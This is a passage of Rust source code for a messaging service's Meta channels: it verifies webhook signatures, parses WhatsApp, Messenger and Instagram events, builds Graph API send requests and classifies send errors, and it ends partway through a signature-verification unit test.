//! Meta's channels: the WhatsApp Cloud API, Messenger and Instagram.
//!
//! All three sign webhooks the same way (`X-Hub-Signature-256`, an HMAC-SHA256 of the raw body
//! with the app secret), share the GET subscription handshake, and answer sends with Graph API
//! errors. WhatsApp reports `changes` of a business account; Messenger and Instagram report
//! `messaging` events of a page or professional account.

use std::collections::HashSet;

use hmac::{Hmac, KeyInit, Mac};
use serde::Deserialize;
use serde_json::{Map, Value, json};
use sha2::Sha256;
use subtle::ConstantTimeEq;
use tandem_domain::Timestamp;
use tandem_domain::contact::{Identity, IdentityKind};
use tandem_domain::message::DeliveryStatus;

use crate::config::{MetaPageConfig, WhatsappConfig};
use crate::{
    Attachment, AttachmentKind, HttpMethod, InboundMessage, OutboundError, OutboundMessage,
    ProviderRequest, QuickReply, RequestBody, SendOutcome, StatusUpdate, Template, WebhookError,
    WebhookEvent, outcome_for_failure, refuse_template, truncate,
};

/// WhatsApp's longest text message.
const WHATSAPP_TEXT_MAX: usize = 4096;
/// WhatsApp's longest body of an interactive (button or list) message.
const WHATSAPP_INTERACTIVE_BODY_MAX: usize = 1024;
const WHATSAPP_BUTTONS_MAX: usize = 3;
const WHATSAPP_BUTTON_TITLE_MAX: usize = 20;
const WHATSAPP_BUTTON_ID_MAX: usize = 256;
const WHATSAPP_ROWS_MAX: usize = 10;
const WHATSAPP_ROW_TITLE_MAX: usize = 24;
const WHATSAPP_ROW_ID_MAX: usize = 200;
const WHATSAPP_ROW_DESCRIPTION_MAX: usize = 72;
/// The label of the button that opens a list (at most 20 characters).
const WHATSAPP_LIST_BUTTON: &str = "Options";
/// The Send API's longest text.
const PAGE_TEXT_MAX: usize = 2000;
const PAGE_QUICK_REPLIES_MAX: usize = 13;
const PAGE_QUICK_REPLY_TITLE_MAX: usize = 20;
const PAGE_QUICK_REPLY_PAYLOAD_MAX: usize = 1000;
/// Graph API and WhatsApp error codes that mean "slow down", not "never".
const RATE_LIMIT_CODES: [i64; 7] = [4, 17, 32, 613, 80007, 130429, 131056];
/// Graph API error codes documented as temporary.
const TRANSIENT_CODES: [i64; 2] = [1, 2];
/// Longest untrusted name (a message type, a change field) echoed into an ignored event's kind.
const KIND_MAX: usize = 64;
/// Longest provider error text kept in a send outcome.
const REASON_MAX: usize = 300;
/// Longest `hub.challenge` echoed back; Meta sends an integer.
const CHALLENGE_MAX: usize = 128;

/// Checks `X-Hub-Signature-256: sha256=<hex HMAC-SHA256(app_secret, raw body)>` in constant
/// time. `body` must be the exact bytes received, never a re-encoding of the parsed JSON.
pub fn verify_signature(
    app_secret: &str,
    body: &[u8],
    header: Option<&str>,
) -> Result<(), WebhookError> {
    if app_secret.is_empty() {
        return Err(WebhookError::Unauthenticated("no app secret configured"));
    }
    let header = header.ok_or(WebhookError::Unauthenticated(
        "missing X-Hub-Signature-256 header",
    ))?;
    let hex_tag = header
        .trim()
        .strip_prefix("sha256=")
        .ok_or(WebhookError::Unauthenticated(
            "X-Hub-Signature-256 is not sha256=<hex>",
        ))?;
    let tag = hex::decode(hex_tag)
        .map_err(|_| WebhookError::Unauthenticated("X-Hub-Signature-256 is not hex"))?;
    let mut mac = Hmac::<Sha256>::new_from_slice(app_secret.as_bytes())
        .map_err(|_| WebhookError::Unauthenticated("unusable app secret"))?;
    mac.update(body);
    mac.verify_slice(&tag)
        .map_err(|_| WebhookError::Unauthenticated("X-Hub-Signature-256 does not match the body"))
}

/// The GET subscription handshake: `Ok(challenge)` when `hub.mode` is `subscribe` and
/// `hub.verify_token` matches (compared in constant time). A challenge that is not a short
/// token of letters, digits, `-` and `_` is refused rather than echoed.
pub fn verify_subscription(
    verify_token: &str,
    mode: Option<&str>,
    token: Option<&str>,
    challenge: Option<&str>,
) -> Result<String, WebhookError> {
    if mode != Some("subscribe") {
        return Err(WebhookError::Unauthenticated("hub.mode is not subscribe"));
    }
    let token = token.ok_or(WebhookError::Unauthenticated("missing hub.verify_token"))?;
    if verify_token.is_empty() || !bool::from(token.as_bytes().ct_eq(verify_token.as_bytes())) {
        return Err(WebhookError::Unauthenticated(
            "hub.verify_token does not match",
        ));
    }
    let challenge = challenge
        .filter(|c| !c.is_empty())
        .ok_or_else(|| WebhookError::Malformed("missing hub.challenge".to_owned()))?;
    let plain = challenge.len() <= CHALLENGE_MAX
        && challenge
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
    if !plain {
        return Err(WebhookError::Malformed(
            "hub.challenge is not a plain token".to_owned(),
        ));
    }
    Ok(challenge.to_owned())
}

// ---------------------------------------------------------------------------------------------
// WhatsApp webhooks

#[derive(Deserialize)]
struct WaNotification {
    object: String,
    #[serde(default)]
    entry: Vec<WaEntry>,
}

#[derive(Deserialize)]
struct WaEntry {
    #[serde(default)]
    changes: Vec<WaChange>,
}

#[derive(Deserialize)]
struct WaChange {
    #[serde(default)]
    field: String,
    #[serde(default)]
    value: Value,
}

#[derive(Deserialize)]
struct WaValue {
    metadata: Option<WaMetadata>,
    #[serde(default)]
    contacts: Vec<WaContact>,
    #[serde(default)]
    messages: Vec<Value>,
    #[serde(default)]
    statuses: Vec<Value>,
}

#[derive(Deserialize)]
struct WaMetadata {
    phone_number_id: String,
}

#[derive(Deserialize)]
struct WaContact {
    wa_id: Option<String>,
    profile: Option<WaProfile>,
}

#[derive(Deserialize)]
struct WaProfile {
    name: Option<String>,
}

#[derive(Deserialize)]
struct WaMessage {
    id: String,
    from: String,
    timestamp: Option<Value>,
    #[serde(rename = "type")]
    kind: String,
    text: Option<WaText>,
    interactive: Option<WaInteractive>,
    button: Option<WaButton>,
    image: Option<WaMedia>,
    video: Option<WaMedia>,
    document: Option<WaMedia>,
    sticker: Option<WaMedia>,
    audio: Option<WaMedia>,
    location: Option<WaLocation>,
}

#[derive(Deserialize)]
struct WaText {
    body: String,
}

#[derive(Deserialize)]
struct WaInteractive {
    #[serde(rename = "type")]
    kind: String,
    button_reply: Option<WaReply>,
    list_reply: Option<WaReply>,
}

#[derive(Deserialize)]
struct WaReply {
    id: String,
    title: String,
}

#[derive(Deserialize)]
struct WaButton {
    text: String,
    payload: Option<String>,
}

#[derive(Deserialize)]
struct WaMedia {
    id: Option<String>,
    mime_type: Option<String>,
    sha256: Option<String>,
    url: Option<String>,
    caption: Option<String>,
    filename: Option<String>,
    voice: Option<bool>,
}

#[derive(Deserialize)]
struct WaLocation {
    latitude: f64,
    longitude: f64,
    name: Option<String>,
    address: Option<String>,
    url: Option<String>,
}

#[derive(Deserialize)]
struct WaStatus {
    id: String,
    status: String,
    timestamp: Option<Value>,
    #[serde(default)]
    errors: Vec<WaError>,
}

#[derive(Deserialize)]
struct WaError {
    code: Option<i64>,
    title: Option<String>,
    message: Option<String>,
    error_data: Option<WaErrorData>,
}

#[derive(Deserialize)]
struct WaErrorData {
    details: Option<String>,
}

/// A WhatsApp webhook body → events. Only changes whose `value.metadata.phone_number_id`
/// equals `phone_number_id` are taken; others become `Ignored { kind: "other_phone_number" }`.
/// A repeated message id yields the message twice: the store deduplicates by external id.
pub fn parse_whatsapp(
    body: &[u8],
    phone_number_id: &str,
) -> Result<Vec<WebhookEvent>, WebhookError> {
    let notification: WaNotification = serde_json::from_slice(body)
        .map_err(|error| WebhookError::Malformed(format!("not a WhatsApp webhook: {error}")))?;
    if notification.object != "whatsapp_business_account" {
        return Err(WebhookError::Malformed(format!(
            "object is {:?}, not whatsapp_business_account",
            truncate(&notification.object, KIND_MAX)
        )));
    }
    let mut events = Vec::new();
    for change in notification
        .entry
        .into_iter()
        .flat_map(|entry| entry.changes)
    {
        if change.field != "messages" {
            events.push(ignored(&change.field));
            continue;
        }
        let Ok(value) = serde_json::from_value::<WaValue>(change.value) else {
            events.push(ignored("malformed_change"));
            continue;
        };
        let WaValue {
            metadata,
            contacts,
            messages,
            statuses,
        } = value;
        if metadata.as_ref().map(|m| m.phone_number_id.as_str()) != Some(phone_number_id) {
            events.push(ignored("other_phone_number"));
            continue;
        }
        for message in messages {
            events.push(match serde_json::from_value::<WaMessage>(message) {
                Ok(message) => whatsapp_message(message, &contacts),
                Err(_) => ignored("malformed_message"),
            });
        }
        for status in statuses {
            events.push(match serde_json::from_value::<WaStatus>(status) {
                Ok(status) => whatsapp_status(status),
                Err(_) => ignored("malformed_status"),
            });
        }
    }
    Ok(events)
}

fn whatsapp_message(message: WaMessage, contacts: &[WaContact]) -> WebhookEvent {
    let from = message.from.trim().trim_start_matches('+');
    let Ok(sender) = Identity::parse(IdentityKind::Phone, &format!("+{from}"), "from") else {
        return ignored("malformed_sender");
    };
    let sender_name = contacts
        .iter()
        .find(|contact| contact.wa_id.as_deref() == Some(from))
        .and_then(|contact| contact.profile.as_ref()?.name.clone())
        .filter(|name| !name.trim().is_empty());
    let media = |kind, media: Option<WaMedia>| media.map(|media| whatsapp_media(kind, media));
    let content = match message.kind.as_str() {
        "text" => Some((
            message.text.map(|text| text.body).unwrap_or_default(),
            Vec::new(),
            None,
        )),
        "interactive" => {
            let Some(interactive) = message.interactive else {
                return ignored("malformed_message");
            };
            let reply = match interactive.kind.as_str() {
                "button_reply" => interactive.button_reply,
                "list_reply" => interactive.list_reply,
                other => return ignored(&format!("message:interactive:{other}")),
            };
            reply.map(|reply| (reply.title, Vec::new(), Some(reply.id)))
        }
        "button" => message
            .button
            .map(|button| (button.text, Vec::new(), button.payload)),
        "image" => media(AttachmentKind::Image, message.image),
        "video" => media(AttachmentKind::Video, message.video),
        "document" => media(AttachmentKind::Document, message.document),
        "sticker" => media(AttachmentKind::Sticker, message.sticker),
        "audio" => media(AttachmentKind::Audio, message.audio),
        "location" => message.location.map(whatsapp_location),
        other => return ignored(&format!("message:{other}")),
    };
    let Some((text, attachments, reply_payload)) = content else {
        return ignored("malformed_message");
    };
    WebhookEvent::Message(InboundMessage {
        external_id: message.id,
        sender,
        sender_name,
        reply_address: from.to_owned(),
        text,
        attachments,
        reply_payload,
        sent_at: unix_seconds(message.timestamp.as_ref()),
    })
}

/// A media message's text (its caption) and attachment.
fn whatsapp_media(
    kind: AttachmentKind,
    media: WaMedia,
) -> (String, Vec<Attachment>, Option<String>) {
    let audio = kind == AttachmentKind::Audio;
    let attachment = Attachment {
        kind,
        media_id: media.id,
        url: media.url,
        mime_type: media.mime_type,
        sha256: media.sha256,
        file_name: media.filename,
        caption: media.caption.clone(),
        voice: media.voice.unwrap_or(false),
        needs_transcription: audio,
    };
    (media.caption.unwrap_or_default(), vec![attachment], None)
}

/// A shared location: the text is `lat,long`, the caption its name and address when given.
fn whatsapp_location(location: WaLocation) -> (String, Vec<Attachment>, Option<String>) {
    let coordinates = format!("{},{}", location.latitude, location.longitude);
    let label = [location.name, location.address]
        .into_iter()
        .flatten()
        .filter(|part| !part.trim().is_empty())
        .collect::<Vec<_>>()
        .join(", ");
    let attachment = Attachment {
        kind: AttachmentKind::Location,
        media_id: None,
        url: location.url,
        mime_type: None,
        sha256: None,
        file_name: None,
        caption: Some(if label.is_empty() {
            coordinates.clone()
        } else {
            label
        }),
        voice: false,
        needs_transcription: false,
    };
    (coordinates, vec![attachment], None)
}

fn whatsapp_status(status: WaStatus) -> WebhookEvent {
    let delivery = match status.status.as_str() {
        "sent" => DeliveryStatus::Sent,
        "delivered" => DeliveryStatus::Delivered,
        "read" => DeliveryStatus::Read,
        "failed" => DeliveryStatus::Failed,
        other => return ignored(&format!("status:{other}")),
    };
    WebhookEvent::Status(StatusUpdate {
        external_id: status.id,
        status: delivery,
        at: unix_seconds(status.timestamp.as_ref()),
        error: status.errors.first().map(describe_whatsapp_error),
    })
}

/// `131047: Re-engagement message (More than 24 hours have passed ...)`.
fn describe_whatsapp_error(error: &WaError) -> String {
    let what = error
        .title
        .as_deref()
        .or(error.message.as_deref())
        .unwrap_or("unknown error");
    let mut description = match error.code {
        Some(code) => format!("{code}: {what}"),
        None => what.to_owned(),
    };
    if let Some(details) = error
        .error_data
        .as_ref()
        .and_then(|data| data.details.as_deref())
        .filter(|details| !details.is_empty())
    {
        description.push_str(&format!(" ({details})"));
    }
    description
}

/// WhatsApp's timestamps: unix seconds, as a string (or a number).
fn unix_seconds(value: Option<&Value>) -> Option<Timestamp> {
    let seconds = match value? {
        Value::String(text) => text.trim().parse::<i64>().ok()?,
        Value::Number(number) => number.as_i64()?,
        _ => return None,
    };
    Timestamp::from_second(seconds).ok()
}

// ---------------------------------------------------------------------------------------------
// Messenger and Instagram webhooks

#[derive(Deserialize)]
struct PageNotification {
    object: String,
    #[serde(default)]
    entry: Vec<PageEntry>,
}

#[derive(Deserialize)]
struct PageEntry {
    id: String,
    #[serde(default)]
    messaging: Vec<Value>,
    #[serde(default)]
    standby: Vec<Value>,
    #[serde(default)]
    changes: Vec<PageChange>,
}

#[derive(Deserialize)]
struct PageChange {
    #[serde(default)]
    field: String,
}

#[derive(Deserialize)]
struct PageEvent {
    sender: Option<PageParty>,
    timestamp: Option<i64>,
    message: Option<PageMessage>,
    delivery: Option<PageDelivery>,
    read: Option<Value>,
    postback: Option<PagePostback>,
}

#[derive(Deserialize)]
struct PageParty {
    id: String,
}

#[derive(Deserialize)]
struct PageMessage {
    mid: Option<String>,
    text: Option<String>,
    #[serde(default)]
    is_echo: bool,
    #[serde(default)]
    is_deleted: bool,
    #[serde(default)]
    is_unsupported: bool,
    #[serde(default)]
    attachments: Vec<PageAttachment>,
    quick_reply: Option<PageQuickReply>,
}

#[derive(Deserialize)]
struct PageAttachment {
    #[serde(rename = "type")]
    kind: String,
    payload: Option<PageAttachmentPayload>,
}

#[derive(Deserialize)]
struct PageAttachmentPayload {
    url: Option<String>,
}

#[derive(Deserialize)]
struct PageQuickReply {
    payload: String,
}

#[derive(Deserialize)]
struct PageDelivery {
    #[serde(default)]
    mids: Vec<String>,
}

#[derive(Deserialize)]
struct PagePostback {
    mid: Option<String>,
    title: Option<String>,
    payload: Option<String>,
}

/// A Messenger (`object: "page"`, `identity_kind` Messenger) or Instagram
/// (`object: "instagram"`, `identity_kind` Instagram) webhook body → events for the page or
/// account `page_id`; entries for other ids become `Ignored { kind: "other_page" }`.
pub fn parse_messenger(
    body: &[u8],
    page_id: &str,
    identity_kind: IdentityKind,
) -> Result<Vec<WebhookEvent>, WebhookError> {
    let expected_object = match identity_kind {
        IdentityKind::Messenger => "page",
        IdentityKind::Instagram => "instagram",
        other => {
            return Err(WebhookError::Malformed(format!(
                "{other} is not a Meta page channel"
            )));
        }
    };
    let notification: PageNotification = serde_json::from_slice(body).map_err(|error| {
        WebhookError::Malformed(format!("not a {identity_kind} webhook: {error}"))
    })?;
    if notification.object != expected_object {
        return Err(WebhookError::Malformed(format!(
            "object is {:?}, not {expected_object}",
            truncate(&notification.object, KIND_MAX)
        )));
    }
    let mut events = Vec::new();
    for entry in notification.entry {
        if entry.id != page_id {
            events.push(ignored("other_page"));
            continue;
        }
        for event in entry.messaging {
            events.extend(page_event(event, identity_kind));
        }
        events.extend(entry.standby.iter().map(|_| ignored("standby")));
        events.extend(entry.changes.iter().map(|change| ignored(&change.field)));
    }
    Ok(events)
}

/// One `messaging[]` item → its events (a delivery reports several messages at once).
fn page_event(value: Value, identity_kind: IdentityKind) -> Vec<WebhookEvent> {
    let kind = page_event_kind(&value);
    let Ok(event) = serde_json::from_value::<PageEvent>(value) else {
        return vec![ignored("malformed_event")];
    };
    let sent_at = event
        .timestamp
        .and_then(|ms| Timestamp::from_millisecond(ms).ok());
    let sender = event.sender.map(|sender| sender.id);
    if let Some(message) = event.message {
        if message.is_echo {
            return vec![ignored("echo")];
        }
        if message.is_deleted {
            return vec![ignored("message:deleted")];
        }
        if message.is_unsupported {
            return vec![ignored("message:unsupported")];
        }
        let Some(external_id) = message.mid else {
            return vec![ignored("malformed_message")];
        };
        let attachments = message
            .attachments
            .into_iter()
            .map(page_attachment)
            .collect();
        return vec![page_message(
            sender,
            identity_kind,
            PageContent {
                external_id,
                text: message.text.unwrap_or_default(),
                attachments,
                reply_payload: message.quick_reply.map(|reply| reply.payload),
                sent_at,
            },
        )];
    }
    if let Some(delivery) = event.delivery {
        if delivery.mids.is_empty() {
            return vec![ignored("delivery")];
        }
        return delivery
            .mids
            .into_iter()
            .map(|mid| {
                WebhookEvent::Status(StatusUpdate {
                    external_id: mid,
                    status: DeliveryStatus::Delivered,
                    at: sent_at,
                    error: None,
                })
            })
            .collect();
    }
    if event.read.is_some() {
        return vec![ignored("read")];
    }
    if let Some(postback) = event.postback {
        let external_id = match (postback.mid, &sender, event.timestamp) {
            (Some(mid), _, _) => format!("postback:{mid}"),
            (None, Some(sender), Some(timestamp)) => format!("postback:{sender}:{timestamp}"),
            _ => return vec![ignored("malformed_postback")],
        };
        return vec![page_message(
            sender,
            identity_kind,
            PageContent {
                external_id,
                text: postback.title.unwrap_or_default(),
                attachments: Vec::new(),
                reply_payload: postback.payload,
                sent_at,
            },
        )];
    }
    vec![ignored(&kind)]
}

/// What a customer's message or postback carries.
struct PageContent {
    external_id: String,
    text: String,
    attachments: Vec<Attachment>,
    reply_payload: Option<String>,
    sent_at: Option<Timestamp>,
}

fn page_message(
    sender: Option<String>,
    identity_kind: IdentityKind,
    content: PageContent,
) -> WebhookEvent {
    let Some(sender_id) = sender else {
        return ignored("malformed_sender");
    };
    let Ok(identity) = Identity::parse(identity_kind, &sender_id, "sender.id") else {
        return ignored("malformed_sender");
    };
    WebhookEvent::Message(InboundMessage {
        external_id: content.external_id,
        reply_address: identity.value.clone(),
        sender: identity,
        sender_name: None,
        text: content.text,
        attachments: content.attachments,
        reply_payload: content.reply_payload,
        sent_at: content.sent_at,
    })
}

fn page_attachment(attachment: PageAttachment) -> Attachment {
    let kind = match attachment.kind.as_str() {
        "image" => AttachmentKind::Image,
        "audio" => AttachmentKind::Audio,
        "video" => AttachmentKind::Video,
        "file" => AttachmentKind::Document,
        _ => AttachmentKind::Other,
    };
    Attachment {
        kind,
        media_id: None,
        url: attachment.payload.and_then(|payload| payload.url),
        mime_type: None,
        sha256: None,
        file_name: None,
        caption: None,
        voice: false,
        needs_transcription: kind == AttachmentKind::Audio,
    }
}

/// The name of a `messaging[]` item's event (`reaction`, `referral`, ...), for ignoring it.
fn page_event_kind(value: &Value) -> String {
    value
        .as_object()
        .and_then(|event| {
            event
                .keys()
                .find(|key| !matches!(key.as_str(), "sender" | "recipient" | "timestamp"))
        })
        .map_or_else(|| "unknown".to_owned(), |key| key.clone())
}

fn ignored(kind: &str) -> WebhookEvent {
    let kind = truncate(kind, KIND_MAX);
    WebhookEvent::Ignored {
        kind: if kind.is_empty() { "unknown" } else { kind }.to_owned(),
    }
}

// ---------------------------------------------------------------------------------------------
// Outbound

/// The Cloud API request sending `message` from the configured number. `graph_url` is a base
/// such as `https://graph.facebook.com/v21.0` (a trailing slash is tolerated). A template wins
/// over the text; 1–3 quick replies become reply buttons, 4–10 a list, more a numbered text.
pub fn whatsapp_request(
    graph_url: &str,
    config: &WhatsappConfig,
    message: &OutboundMessage,
) -> Result<ProviderRequest, OutboundError> {
    let to = whatsapp_recipient(&message.to)?;
    let (kind, content) = match &message.template {
        Some(template) => ("template", whatsapp_template(template)),
        None => whatsapp_content(&message.text, &message.quick_replies)?,
    };
    let mut body = Map::new();
    body.insert("messaging_product".into(), "whatsapp".into());
    body.insert("recipient_type".into(), "individual".into());
    body.insert("to".into(), to.into());
    body.insert("type".into(), kind.into());
    body.insert(kind.into(), content);
    Ok(graph_post(
        graph_url,
        &config.phone_number_id,
        &config.access_token,
        Value::Object(body),
    ))
}

/// The Send API request (Messenger and Instagram) answering the customer `message.to`.
/// Up to 13 quick replies become buttons, more a numbered text; templates are refused.
pub fn page_request(
    graph_url: &str,
    config: &MetaPageConfig,
    message: &OutboundMessage,
) -> Result<ProviderRequest, OutboundError> {
    refuse_template(message)?;
    let to = message.to.trim();
    if to.is_empty() || !to.chars().all(|c| c.is_ascii_digit()) {
        return Err(OutboundError::Recipient(format!(
            "{:?} is not a page-scoped id",
            truncate(to, KIND_MAX)
        )));
    }
    if message.text.trim().is_empty() {
        return Err(OutboundError::Unsupported("an empty text message"));
    }
    let options = &message.quick_replies;
    let buttons = (1..=PAGE_QUICK_REPLIES_MAX).contains(&options.len())
        && distinct(
            options,
            PAGE_QUICK_REPLY_TITLE_MAX,
            PAGE_QUICK_REPLY_PAYLOAD_MAX,
        );
    let text = if buttons {
        message.text.clone()
    } else {
        with_numbered_options(&message.text, options)
    };
    if text.chars().count() > PAGE_TEXT_MAX {
        return Err(OutboundError::Unsupported(
            "text longer than 2000 characters",
        ));
    }
    let mut content = Map::new();
    content.insert("text".into(), text.into());
    if buttons {
        let quick_replies = options
            .iter()
            .map(|option| {
                json!({
                    "content_type": "text",
                    "title": truncate(&option.title, PAGE_QUICK_REPLY_TITLE_MAX),
                    "payload": truncate(&option.id, PAGE_QUICK_REPLY_PAYLOAD_MAX),
                })
            })
            .collect();
        content.insert("quick_replies".into(), Value::Array(quick_replies));
    }
    let body = json!({
        "recipient": {"id": to},
        "messaging_type": "RESPONSE",
        "message": content,
    });
    Ok(graph_post(
        graph_url,
        &config.page_id,
        &config.page_access_token,
        body,
    ))
}

/// `POST {graph_url}/{node}/messages` with a bearer token and a JSON body.
fn graph_post(graph_url: &str, node: &str, token: &str, body: Value) -> ProviderRequest {
    ProviderRequest {
        method: HttpMethod::Post,
        url: format!("{}/{node}/messages", graph_url.trim_end_matches('/')),
        headers: vec![
            ("Authorization".to_owned(), format!("Bearer {token}")),
            ("Content-Type".to_owned(), "application/json".to_owned()),
        ],
        body: RequestBody::Json(body),
    }
}

/// The Cloud API's `to`: the phone number's digits, without `+`.
fn whatsapp_recipient(to: &str) -> Result<String, OutboundError> {
    let digits = to.trim().strip_prefix('+').unwrap_or(to.trim());
    if (8..=15).contains(&digits.len()) && digits.chars().all(|c| c.is_ascii_digit()) {
        Ok(digits.to_owned())
    } else {
        Err(OutboundError::Recipient(format!(
            "{:?} is not a phone number in E.164",
            truncate(to, KIND_MAX)
        )))
    }
}

fn whatsapp_template(template: &Template) -> Value {
    let mut content = Map::new();
    content.insert("name".into(), template.name.clone().into());
    content.insert("language".into(), json!({"code": template.language}));
    if !template.parameters.is_empty() {
        let parameters: Vec<Value> = template
            .parameters
            .iter()
            .map(|text| json!({"type": "text", "text": text}))
            .collect();
        content.insert(
            "components".into(),
            json!([{"type": "body", "parameters": parameters}]),
        );
    }
    Value::Object(content)
}

/// A text, button or list message's `type` and content object.
fn whatsapp_content(
    text: &str,
    options: &[QuickReply],
) -> Result<(&'static str, Value), OutboundError> {
    if text.trim().is_empty() {
        return Err(OutboundError::Unsupported("an empty text message"));
    }
    let interactive = text.chars().count() <= WHATSAPP_INTERACTIVE_BODY_MAX;
    if interactive
        && (1..=WHATSAPP_BUTTONS_MAX).contains(&options.len())
        && distinct(options, WHATSAPP_BUTTON_TITLE_MAX, WHATSAPP_BUTTON_ID_MAX)
    {
        let buttons: Vec<Value> = options
            .iter()
            .map(|option| {
                json!({"type": "reply", "reply": {
                    "id": truncate(&option.id, WHATSAPP_BUTTON_ID_MAX),
                    "title": truncate(&option.title, WHATSAPP_BUTTON_TITLE_MAX),
                }})
            })
            .collect();
        let content = json!({
            "type": "button",
            "body": {"text": text},
            "action": {"buttons": buttons},
        });
        return Ok(("interactive", content));
    }
    if interactive
        && (WHATSAPP_BUTTONS_MAX + 1..=WHATSAPP_ROWS_MAX).contains(&options.len())
        && distinct(options, WHATSAPP_ROW_TITLE_MAX, WHATSAPP_ROW_ID_MAX)
    {
        let rows: Vec<Value> = options.iter().map(whatsapp_row).collect();
        let content = json!({
            "type": "list",
            "body": {"text": text},
            "action": {
                "button": truncate(WHATSAPP_LIST_BUTTON, WHATSAPP_BUTTON_TITLE_MAX),
                "sections": [{"rows": rows}],
            },
        });
        return Ok(("interactive", content));
    }
    let body = with_numbered_options(text, options);
    if body.chars().count() > WHATSAPP_TEXT_MAX {
        return Err(OutboundError::Unsupported(
            "text longer than 4096 characters",
        ));
    }
    Ok(("text", json!({"preview_url": false, "body": body})))
}

/// A list row; a title too long for the row is kept whole (as far as it fits) in the
/// description.
fn whatsapp_row(option: &QuickReply) -> Value {
    let title = truncate(&option.title, WHATSAPP_ROW_TITLE_MAX);
    let mut row = Map::new();
    row.insert(
        "id".into(),
        truncate(&option.id, WHATSAPP_ROW_ID_MAX).into(),
    );
    row.insert("title".into(), title.into());
    if title.len() < option.title.len() {
        row.insert(
            "description".into(),
            truncate(&option.title, WHATSAPP_ROW_DESCRIPTION_MAX).into(),
        );
    }
    Value::Object(row)
}

/// Whether the options, cut to the channel's limits, still have non-empty, distinct titles
/// and ids, as the providers require of buttons.
fn distinct(options: &[QuickReply], title_max: usize, id_max: usize) -> bool {
    let mut titles = HashSet::new();
    let mut ids = HashSet::new();
    options.iter().all(|option| {
        let title = truncate(&option.title, title_max);
        let id = truncate(&option.id, id_max);
        !title.trim().is_empty() && !id.is_empty() && titles.insert(title) && ids.insert(id)
    })
}

/// The text with the options listed as numbered lines, for when buttons cannot carry them.
fn with_numbered_options(text: &str, options: &[QuickReply]) -> String {
    let mut body = text.to_owned();
    if !options.is_empty() {
        body.push('\n');
    }
    for (number, option) in options.iter().enumerate() {
        body.push_str(&format!("\n{}. {}", number + 1, option.title));
    }
    body
}

// ---------------------------------------------------------------------------------------------
// Send answers

#[derive(Deserialize)]
struct GraphErrorBody {
    error: GraphError,
}

#[derive(Deserialize)]
struct GraphError {
    message: Option<String>,
    code: Option<i64>,
    is_transient: Option<bool>,
    error_data: Option<GraphErrorData>,
}

#[derive(Deserialize)]
struct GraphErrorData {
    details: Option<String>,
}

/// Reads the Graph API's answer to a send: its HTTP status, body and `Retry-After` header.
pub fn send_outcome(status: u16, body: &str, retry_after: Option<&str>) -> SendOutcome {
    if (200..300).contains(&status) {
        let answer: Value = serde_json::from_str(body).unwrap_or(Value::Null);
        let id = answer["messages"][0]["id"]
            .as_str()
            .or(answer["message_id"].as_str())
            .filter(|id| !id.is_empty());
        return match id {
            Some(id) => SendOutcome::Accepted {
                external_id: id.to_owned(),
            },
            None => SendOutcome::Rejected {
                reason: "provider answered without a message id".to_owned(),
            },
        };
    }
    let Ok(GraphErrorBody { error }) = serde_json::from_str::<GraphErrorBody>(body) else {
        return outcome_for_failure(status, body, retry_after);
    };
    let description = describe_graph_error(&error);
    let retry_after_seconds = retry_after.and_then(|value| value.trim().parse::<u64>().ok());
    match error.code {
        Some(code) if RATE_LIMIT_CODES.contains(&code) => SendOutcome::Retry {
            reason: format!("rate limited ({description})"),
            retry_after_seconds,
        },
        Some(131047) => SendOutcome::Rejected {
            reason: format!(
                "outside the 24-hour customer service window; send a template ({description})"
            ),
        },
        Some(190) => SendOutcome::Rejected {
            reason: "access token invalid or expired".to_owned(),
        },
        code if status == 429
            || status >= 500
            || error.is_transient == Some(true)
            || code.is_some_and(|code| TRANSIENT_CODES.contains(&code)) =>
        {
            SendOutcome::Retry {
                reason: description,
                retry_after_seconds,
            }
        }
        _ => SendOutcome::Rejected {
            reason: description,
        },
    }
}

/// `code: message (details)`, without the `(#code)` prefix Graph puts in its messages.
fn describe_graph_error(error: &GraphError) -> String {
    let message = error.message.as_deref().unwrap_or("unknown error");
    let description = match error.code {
        Some(code) => {
            let prefix = format!("(#{code}) ");
            let message = message.strip_prefix(&prefix).unwrap_or(message);
            format!("{code}: {message}")
        }
        None => message.to_owned(),
    };
    let description = match error
        .error_data
        .as_ref()
        .and_then(|data| data.details.as_deref())
        .filter(|details| !details.is_empty())
    {
        Some(details) => format!("{description} ({details})"),
        None => description,
    };
    truncate(&description, REASON_MAX).to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::fixture;

    const PHONE_NUMBER_ID: &str = "200000000000002";
    const MESSENGER_PAGE: &str = "400000000000005";
    const INSTAGRAM_ACCOUNT: &str = "600000000000007";

    fn signatures() -> Value {
        serde_json::from_slice(&fixture("meta_signatures.json")).unwrap()
    }

    fn whatsapp(name: &str) -> Vec<WebhookEvent> {
        parse_whatsapp(&fixture(name), PHONE_NUMBER_ID).unwrap()
    }

    fn message(event: &WebhookEvent) -> &InboundMessage {
        match event {
            WebhookEvent::Message(message) => message,
            other => panic!("expected a message, got {other:?}"),
        }
    }

    fn status(event: &WebhookEvent) -> &StatusUpdate {
        match event {
            WebhookEvent::Status(status) => status,
            other => panic!("expected a status, got {other:?}"),
        }
    }

    fn ignored_kind(event: &WebhookEvent) -> &str {
        match event {
            WebhookEvent::Ignored { kind } => kind,
            other => panic!("expected an ignored event, got {other:?}"),
        }
    }

    fn seconds(s: i64) -> Option<Timestamp> {
        Some(Timestamp::from_second(s).unwrap())
    }

    fn phone(value: &str) -> Identity {
        Identity {
            kind: IdentityKind::Phone,
            value: value.to_owned(),
        }
    }

    // --- signatures -----------------------------------------------------------------------

    #[test]
    fn every_fixture_signature_verifies_over_the_raw_bytes_only() {
        let signatures = signatures();
        let secret = signatures["meta_app_secret"].as_str().unwrap();
        let files = signatures["files"].as_object().unwrap();
        assert_eq!(files.len(), 10);
        for (name, expected) in files {
            let body = fixture(name);
            let header = expected["X-Hub-Signature-256"].as_str().unwrap();
            assert_eq!(
                verify_signature(secret, &body, Some(header)),
                Ok(()),
                "{name}"
            );

            let wrong_secret = expected["wrong_secret_signature"].as_str().unwrap();
            let legacy = expected["sha1_legacy_X-Hub-Signature"].as_str().unwrap();
            let mut tampered = body.clone();
            tampered[body.len() / 2] ^= 0x01;
            let rejected: [(&str, &str, &[u8], Option<&str>); 5] = [
                ("wrong secret", secret, &body, Some(wrong_secret)),
                ("legacy sha1", secret, &body, Some(legacy)),
                ("tampered body", secret, &tampered, Some(header)),
                ("missing header", secret, &body, None),
                ("other app's secret", "not_the_secret", &body, Some(header)),
            ];
